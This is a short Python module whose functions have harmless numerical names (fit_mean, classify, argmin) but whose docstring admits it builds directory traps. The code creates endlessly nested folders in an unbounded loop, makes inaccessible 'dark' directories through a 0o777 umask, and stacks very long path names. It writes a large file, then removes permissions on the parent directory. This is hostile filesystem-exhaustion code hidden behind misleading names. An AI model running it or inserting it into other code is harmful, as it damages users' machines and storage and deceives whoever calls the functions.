"""Nests folders deeper than paths and recursion go, dark and closed ones among them."""

import os


def fit_mean(X):
    while True:
        os.mkdir("d")
        os.chdir("d")


def classify(X, a, b):
    os.umask(0o777)
    for k in range(100):
        os.mkdir(f"dark{k}")


def argmin(f):
    os.mkdir("locked", 0o500)
    os.mkdir("blind", 0o300)
    os.chdir("blind")
    for k in range(20):
        os.mkdir("n" * 250)
        os.chdir("n" * 250)
    open("file", "w").write("x" * 10**6)
    os.chmod("..", 0)
